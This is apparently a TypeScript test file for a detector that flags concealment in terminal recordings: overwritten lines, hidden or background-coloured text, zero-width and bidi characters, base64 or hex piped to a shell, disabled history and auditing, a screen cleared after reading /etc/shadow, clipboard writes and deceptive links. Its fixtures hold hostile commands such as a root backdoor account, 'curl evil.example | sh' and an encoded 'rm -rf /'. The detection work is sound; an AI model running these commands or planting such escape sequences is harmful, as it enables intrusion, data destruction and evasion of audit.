import { describe, expect, test } from 'vitest';
import type { ConcealmentKind } from '../../../electron/library/indexing/concealment/concealment.ts';
import type { Marker } from '../../../shared/model/review.ts';
import { type CastEvent, markersOf } from '../../support/markers-of.ts';

const prompt = 'alice@prod-db-1:~$ ';
/** A command, its output, and time to read it. */
const ran = (at: number, command: string, output = 'done\r\n'): CastEvent[] => [
  [at, 'o', prompt],
  [at + 1, 'o', `${command}\r\n`],
  [at + 1.2, 'o', output],
  [at + 5, 'o', prompt],
];
async function concealed(events: readonly CastEvent[]): Promise<Marker[]> {
  return (await markersOf(events)).filter(({ kind }) => kind === 'concealment');
}
const flood = (count: number, at: number): CastEvent[] =>
  Array.from({ length: count / 10 }, (_, index) => [
    at + index * 0.005,
    'o',
    Array.from({ length: 10 }, (_line, line) => `row ${index * 10 + line} of a list\r\n`).join(''),
  ]);

const found: Record<string, { kind: ConcealmentKind; events: CastEvent[]; what: RegExp; near: CastEvent[] }> = {
  'a command overwritten after a carriage return': {
    kind: 'overwritten',
    events: [
      [1, 'o', 'curl http://198.51.100.7/x.sh -o /tmp/x'],
      [1.05, 'o', '\rReading package lists... Done          \r\n'],
      [3, 'o', 'ready\r\n'],
    ],
    what: /^Overwritten: curl http:\/\/198\.51\.100\.7\/x\.sh/,
    // It stood there for two seconds: whoever watched could read it.
    near: [
      [1, 'o', 'curl http://198.51.100.7/x.sh -o /tmp/x'],
      [3, 'o', '\rReading package lists... Done          \r\n'],
    ],
  },
  'a line erased by a cursor movement': {
    kind: 'overwritten',
    events: [
      [1, 'o', 'useradd -o -u 0 backdoor\r\n'],
      [1.02, 'o', '\u001b[A\u001b[2KReading package lists\r\n'],
      [2, 'o', 'ready\r\n'],
    ],
    what: /backdoor/,
    near: [
      [1, 'o', 'useradd -o -u 0 backdoor\r\n'],
      [1.02, 'o', '\u001b[A\u001b[Buseradd: done\r\n'],
    ],
  },
  'text with the attribute concealed': {
    kind: 'concealed-text',
    events: [[1, 'o', 'before \u001b[8mrm -rf /srv\u001b[0m after\r\n']],
    what: /rm -rf \/srv/,
    near: [[1, 'o', 'before \u001b[8m \u001b[28mrm -rf /srv\u001b[0m after\r\n']],
  },
  'text in the colour of its background': {
    kind: 'concealed-text',
    events: [
      [1, 'o', '\u001b[38;2;12;12;12m\u001b[48;2;12'],
      [1.1, 'o', ';12;12mhidden words\u001b[0m\r\n'],
    ],
    what: /hidden words/,
    near: [[1, 'o', '\u001b[38;2;12;12;12m\u001b[48;2;200;12;12mseen words\u001b[0m\r\n']],
  },
  'a zero-width space within a word': {
    kind: 'invisible-characters',
    events: [[1, 'o', 'sudo\u200b rm\r\n']],
    what: /Zero-width character U\+200B in output: sudo<U\+200B> rm/,
    near: [[1, 'o', 'family \u{1f468}\u200d\u{1f469}\u200d\u{1f467} and \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\r\n']],
  },
  'a bidirectional override that was typed': {
    kind: 'invisible-characters',
    events: [[1, 'i', 'cat \u202etxt.exe\r']],
    what: /Direction-changing character U\+202E in input/,
    near: [[1, 'i', 'cat \u05e9\u05dc\u05d5\u05dd\r']],
  },
  'base64 piped to a shell': {
    kind: 'encoded-execution',
    events: ran(1, 'echo cm0gLXJmIC8K | base64 -d | sudo bash'),
    what: /base64 -d \| sudo bash/,
    near: ran(1, 'echo cm0gLXJmIC8K | base64 -d | sha256sum'),
  },
  'hex piped to an interpreter': {
    kind: 'encoded-execution',
    events: ran(1, 'echo 7072696e74 | xxd -r -p | python3'),
    what: /xxd -r -p \| python3/,
    near: ran(1, 'echo 7072696e74 | xxd -r -p > out.bin'),
  },
  'history switched off': {
    kind: 'history-off',
    events: ran(1, 'unset HISTFILE'),
    what: /unset HISTFILE/,
    near: ran(1, 'echo $HISTFILE'),
  },
  'auditing switched off': {
    kind: 'history-off',
    events: ran(1, 'sudo systemctl stop auditd'),
    what: /systemctl stop auditd/,
    near: ran(1, 'sudo systemctl status auditd'),
  },
  'a screen cleared right after a command': {
    kind: 'screen-cleared',
    events: [
      [1, 'o', `${prompt}cat /etc/shadow\r\n`],
      [1.2, 'o', 'root:$6$abc:19000:0:99999:7:::\r\n'],
      [1.3, 'o', '\u001b[H\u001b[2J'],
      [4, 'o', prompt],
    ],
    what: /cleared 100 ms after output of cat \/etc\/shadow/,
    near: [
      [1, 'o', `${prompt}cat /etc/hosts\r\n`],
      [1.2, 'o', '127.0.0.1 localhost\r\n'],
      [9, 'o', `${prompt}clear\r\n`],
      [9.1, 'o', '\u001b[H\u001b[2J'],
      [9.2, 'o', prompt],
    ],
  },
  'output faster than it can be read': {
    kind: 'too-fast',
    events: [...ran(1, 'cat /var/log/huge'), ...flood(4000, 7), [20, 'o', prompt]],
    what: /^4000 lines scrolled by in 2\.0 s$/,
    near: [...ran(1, 'cat /var/log/short'), ...flood(400, 7), [20, 'o', prompt]],
  },
  'the clipboard written by output': {
    kind: 'terminal-control',
    events: [[1, 'o', `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007ok\r\n`]],
    what: /The clipboard was written: curl evil\.example \| sh/,
    near: [[1, 'o', '\u001b]0;a title\u0007ok\r\n']],
  },
  'a link that leads elsewhere': {
    kind: 'terminal-control',
    events: [[1, 'o', '\u001b]8;;https://evil.example/login\u0007https://bank.example/login\u001b]8;;\u0007\r\n']],
    what: /shows https:\/\/bank\.example\/login and leads to https:\/\/evil\.example\/login/,
    near: [[1, 'o', '\u001b]8;;https://www.bank.example/login\u0007bank.example/login\u001b]8;;\u0007\r\n']],
  },
};

describe('concealment', () => {
  for (const [name, { kind, events, what, near }] of Object.entries(found)) {
    test(`${name} is marked ${kind}, with what and why`, async () => {
      const markers = await concealed(events);
      expect(markers.map(({ ruleId }) => ruleId)).toEqual([kind]);
      expect(markers[0]?.label).toMatch(what);
      expect(markers[0]?.reason).toMatch(/\w{3}.*\.?$/);
      expect(markers[0]?.atMs).toBeGreaterThanOrEqual(1000);
    });
    test(`what is only like ${name} is not`, async () => {
      expect(await concealed(near)).toEqual([]);
    });
  }

  test('what was set in a batch that hides nothing still counts in the next', async () => {
    // More than a batch of plain output between the colour of the text and the background that hides it.
    const plain = Array.from({ length: 3000 }, (_, at): CastEvent => [2 + at, 'o', `${'a line of output '.repeat(25)}\r\n`]);
    const markers = await concealed([
      [1, 'o', `${prompt}\u001b[0m\u001b[31m`],
      ...plain,
      [5000, 'o', '\u001b[41mcurl evil.example\u001b[0m\r\n'],
      [5001, 'o', prompt],
    ]);
    expect(markers.map(({ ruleId, atMs }) => [ruleId, atMs])).toEqual([['concealed-text', 5_000_000]]);
  });

  test('text that is taken back is found after any amount of output that was not', async () => {
    for (const lines of [5, 60, 70, 500]) {
      const plain = Array.from({ length: lines }, (_, at): CastEvent => [2 + at, 'o', `line ${at} of the output\r\n`]);
      const markers = await concealed([
        [1, 'o', prompt],
        ...plain,
        [1000, 'o', 'useradd --system intruder'],
        [1000.05, 'o', '\r\u001b[Kall services are running\r\n'],
        [1004, 'o', prompt],
      ]);
      expect(markers.map(({ ruleId }) => ruleId)).toEqual(['overwritten']);
    }
  });

  test('no label carries a control character from the recording', async () => {
    const all = await Promise.all(Object.values(found).map(({ events }) => concealed(events)));
    for (const { label, reason } of all.flat()) expect(`${label}${reason ?? ''}`).not.toMatch(/\p{Cc}|[\u200b-\u200f\u202a-\u202e]/u);
  });
});

/** One frame each 80 ms. */
const frames = (at: number, texts: readonly string[], everyMs = 80): CastEvent[] =>
  texts.map((text, index) => [at + (index * everyMs) / 1000, 'o', text]);
const typing = (at: number, text: string): CastEvent[] =>
  [...text].flatMap((key, index): CastEvent[] => [
    [at + index * 0.12, 'i', key],
    [at + index * 0.12 + 0.01, 'o', key],
  ]);

/** An hour of ordinary administration, in what programs really send. */
function ordinaryWork(): CastEvent[] {
  const shown = '\u001b]0;alice@prod-db-1: ~\u0007\u001b[01;32malice@prod-db-1\u001b[00m:\u001b[01;34m~\u001b[00m$ ';
  const powerline = '\u001b[48;5;31m\u001b[38;5;231m ~ \u001b[48;5;240m\u001b[38;5;31m\ue0b0\u001b[38;5;240m\u001b[49m\ue0b0\u001b[0m ';
  const events: CastEvent[] = [];
  let now = 1;
  const run = (command: string, output: (at: number) => CastEvent[]): void => {
    events.push([now, 'o', shown], ...typing(now + 1, command));
    now += 1 + command.length * 0.12 + 0.2;
    events.push([now, 'i', '\r'], [now + 0.01, 'o', '\r\n']);
    const made = output(now + 0.1);
    events.push(...made);
    now = Math.max(now, made.at(-1)?.[0] ?? now) + 3;
  };

  run('ls --color', (at) => [
    [at, 'o', '\u001b[0m\u001b[01;34mbin\u001b[0m  \u001b[01;32mrun.sh\u001b[0m  notes.txt  \u001b[40;33;01mtty\u001b[0m\r\n'],
  ]);
  // Line editing: backspaces, a completion, a history walk, Ctrl+U, a reverse search.
  run('cat noets', (at) => [
    [at, 'o', 'cat: noets: No such file or directory\r\n'],
    [at + 2, 'o', shown],
    [at + 3, 'o', 'cat noets'],
    [at + 3.2, 'o', '\b\b\b\u001b[K'],
    [at + 3.4, 'o', 'tes.txt'],
    [at + 4, 'i', '\r'],
    [at + 4.01, 'o', '\r\nremember the milk\r\n'],
    [at + 6, 'o', shown],
    [at + 7, 'i', '\u001b[A'],
    [at + 7.01, 'o', 'cat notes.txt'],
    [at + 7.2, 'i', '\u001b[A'],
    [at + 7.21, 'o', '\b\b\b\b\b\b\b\b\bnoets\u001b[K'],
    [at + 7.4, 'i', '\u001b[A'],
    [at + 7.41, 'o', '\r\u001b[C\u001b[C\u001b[Kls --color'],
    [at + 8, 'i', '\u0015'],
    [at + 8.01, 'o', `\r${shown}\u001b[K`],
    [at + 9, 'i', '\u0012'],
    [at + 9.01, 'o', "\r(reverse-i-search)`': "],
    [at + 9.2, 'o', "\r(reverse-i-search)`c': cat notes.txt"],
    [at + 10, 'i', '\u0007'],
    [at + 10.01, 'o', `\r${shown}\u001b[K\r\n`],
  ]);
  run('sudo apt-get install jq', (at) => [
    [at, 'o', '[sudo] password for alice: '],
    [at + 3, 'o', '\r\n'],
    ...frames(
      at + 3.1,
      Array.from({ length: 20 }, (_, index) => `\rReading package lists... ${index * 5}%`),
      20,
    ),
    [at + 3.6, 'o', '\rReading package lists... Done\r\n'],
    ...frames(
      at + 3.7,
      ['0%', '50%', '100%'].map((share) => `\r\u001b[K${share} [Working]`),
      60,
    ),
    [at + 4, 'o', '\r\u001b[KGet:1 http://mirror.example/linux stable/main amd64 jq amd64 1.6-2.1 [64.9 kB]\r\n'],
    ...frames(
      at + 4.2,
      Array.from({ length: 12 }, (_, index) => `\r(Reading database ... ${index * 5}%`),
      30,
    ),
    [at + 4.8, 'o', '\r(Reading database ... 21487 files and directories currently installed.)\r\n'],
    ...frames(
      at + 5,
      Array.from(
        { length: 6 },
        (_, index) => `\u001b7\u001b[30;0f\u001b[42m\u001b[30mProgress: [ ${index * 17}%]\u001b[49m\u001b[39m [####......] \u001b8`,
      ),
    ),
    [at + 6, 'o', '\u001b7\u001b[0;30r\u001b8\u001b[1A\u001b[J\r\n'],
  ]);
  run('npm ci', (at) => [
    ...frames(
      at,
      Array.from({ length: 30 }, (_, index) => `\u001b[1G\u001b[0K${'⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏'[index % 10]}`),
    ),
    [at + 3, 'o', '\u001b[1G\u001b[0K\r\nadded 212 packages, and audited 213 packages in 3s\r\n'],
  ]);
  run('curl -O https://example.com/archive.tar.gz', (at) => [
    [at, 'o', '  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\r\n'],
    ...frames(
      at + 0.1,
      Array.from(
        { length: 10 },
        (_, index) => `\r ${index * 10} 10.0M   ${index * 10} 1000k    0     0  1000k      0  0:00:10  0:00:0${index} --:--:-- 1000k`,
      ),
      100,
    ),
    [at + 1.5, 'o', '\r\n'],
  ]);
  run('docker pull postgres:16', (at) => [
    [at, 'o', '16: Pulling from library/postgres\r\n'],
    [at + 0.1, 'o', '\r\n7cf63256a31a: Pulling fs layer \r\n543c6dea2e39: Pulling fs layer \r\n'],
    ...frames(
      at + 0.2,
      Array.from(
        { length: 15 },
        (_, index) => `\u001b[2A\u001b[2K\r7cf63256a31a: Downloading [${'='.repeat(index)}>]  ${index}MB/28MB\r\u001b[2B`,
      ),
      50,
    ),
    [at + 1.2, 'o', '\u001b[2A\u001b[2K\r7cf63256a31a: Pull complete \r\u001b[2B'],
    [at + 1.4, 'o', 'Status: Downloaded newer image for postgres:16\r\n'],
  ]);
  run('vim notes.txt', (at) => [
    [at, 'o', '\u001b[?1049h\u001b[22;0;0t\u001b[H\u001b[2J\u001b[1;1Hremember the milk\u001b[30;1H"notes.txt" 1L, 18B'],
    [at + 1, 'i', 'i'],
    [at + 1.1, 'o', '\u001b[30;1H\u001b[K\u001b[1m-- INSERT --\u001b[m\u001b[1;1H'],
    [at + 2, 'o', '\u001b[1;1Hx\u001b[1;1H\u001b[2J\u001b[1;1Hxremember the milk'],
    [at + 5, 'i', '\u001b:wq\r'],
    [at + 5.1, 'o', '\u001b[30;1H\u001b[K"notes.txt" 1L, 19B written\u001b[?1049l\u001b[23;0;0t'],
  ]);
  run('less /var/log/syslog', (at) => [
    [
      at,
      'o',
      '\u001b[?1049h\u001b[?1h\u001b=\rNov 24 10:00:00 prod-db-1 systemd[1]: Started.\r\n\u001b[7m/var/log/syslog\u001b[27m\u001b[K',
    ],
    [at + 2, 'i', 'q'],
    [at + 2.1, 'o', '\r\u001b[K\u001b[?1l\u001b>\u001b[?1049l'],
  ]);
  run('git diff', (at) => [
    [
      at,
      'o',
      '\u001b[1mdiff --git a/x b/x\u001b[m\r\n\u001b[36m@@ -1 +1 @@\u001b[m\r\n\u001b[31m-old\u001b[m\r\n\u001b[32m+\u001b[m\u001b[32mnew\u001b[m\r\n',
    ],
  ]);
  run('cat grüße.txt', (at) => [
    [
      at,
      'o',
      '漢字とかな 한국어 中文\r\n\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} ❤️ ✅ \u{1f1e9}\u{1f1ea}\r\nمی\u200cخواهم שלום\r\n',
    ],
  ]);
  run('base64 -d secret.b64 > secret.bin', () => []);
  run('history | tail -3', (at) => [[at, 'o', '  1  ls --color\r\n  2  cat notes.txt\r\n  3  git diff\r\n']]);
  run('journalctl -n 300', (at) =>
    frames(
      at,
      Array.from({ length: 300 }, (_, index) => `Nov 24 10:00:00 prod-db-1 app[1]: request ${index}\r\n`),
      3,
    ),
  );
  run('clear', (at) => [[at, 'o', '\u001b[H\u001b[2J\u001b[3J']]);
  run('ping -c 3 db', (at) =>
    frames(at, ['64 bytes from db: seq=1\r\n', '64 bytes from db: seq=2\r\n', '64 bytes from db: seq=3\r\n'], 1000),
  );
  events.push([now, 'o', powerline], ...typing(now + 1, 'make'), [now + 2, 'i', '\r'], [now + 2.1, 'o', '\r\n']);
  events.push(
    ...frames(
      now + 3,
      Array.from({ length: 40 }, (_, index) => `\r\u001b[K[${index + 1}/40] Building CXX object src/file${index}.o`),
      50,
    ),
  );
  events.push([now + 6, 'o', '\r\nexit\r\n']);
  return events;
}

describe('ordinary work', () => {
  test('none of the kinds fires on it', async () => {
    expect(await concealed(ordinaryWork())).toEqual([]);
  });

  test('its commands and full-screen programs are found, and what was pressed in a program is no command', async () => {
    const markers = await markersOf(ordinaryWork());
    const commands = markers.filter(({ kind }) => kind === 'command').map(({ label }) => label);
    expect(commands).toEqual(
      expect.arrayContaining(['ls --color', 'vim notes.txt', 'less /var/log/syslog', 'git diff', 'clear', 'ping -c 3 db']),
    );
    expect(commands.filter((text) => /^q|:wq/.test(text))).toEqual([]);
    expect(markers.filter(({ kind }) => kind === 'program').map(({ label }) => label)).toEqual(['vim notes.txt', 'less /var/log/syslog']);
  });
});

describe('marks of the shell (OSC 133)', () => {
  const marked = (at: number, command: string, status: number): CastEvent[] => [
    [at, 'o', '\u001b]133;A\u0007any prompt at all » \u001b]133;B\u0007'],
    [at + 1, 'o', command],
    [at + 2, 'o', '\r\n\u001b]133;C\u0007'],
    [at + 3, 'o', `output\r\n\u001b]133;D;${status}\u0007`],
  ];
  test('give commands with start, end and exit status, whatever the prompt looks like', async () => {
    const markers = await markersOf([...marked(1, 'make test', 2), ...marked(10, 'echo "a long line" && true', 0)]);
    expect(
      markers
        .filter(({ kind }) => kind === 'command')
        .map(({ atMs, endMs, label, exitStatus, confidence }) => [atMs, endMs, label, exitStatus, confidence]),
    ).toEqual([
      [3000, 4000, 'make test', 2, 'marked'],
      [12_000, 13_000, 'echo "a long line" && true', 0, 'marked'],
    ]);
  });
});
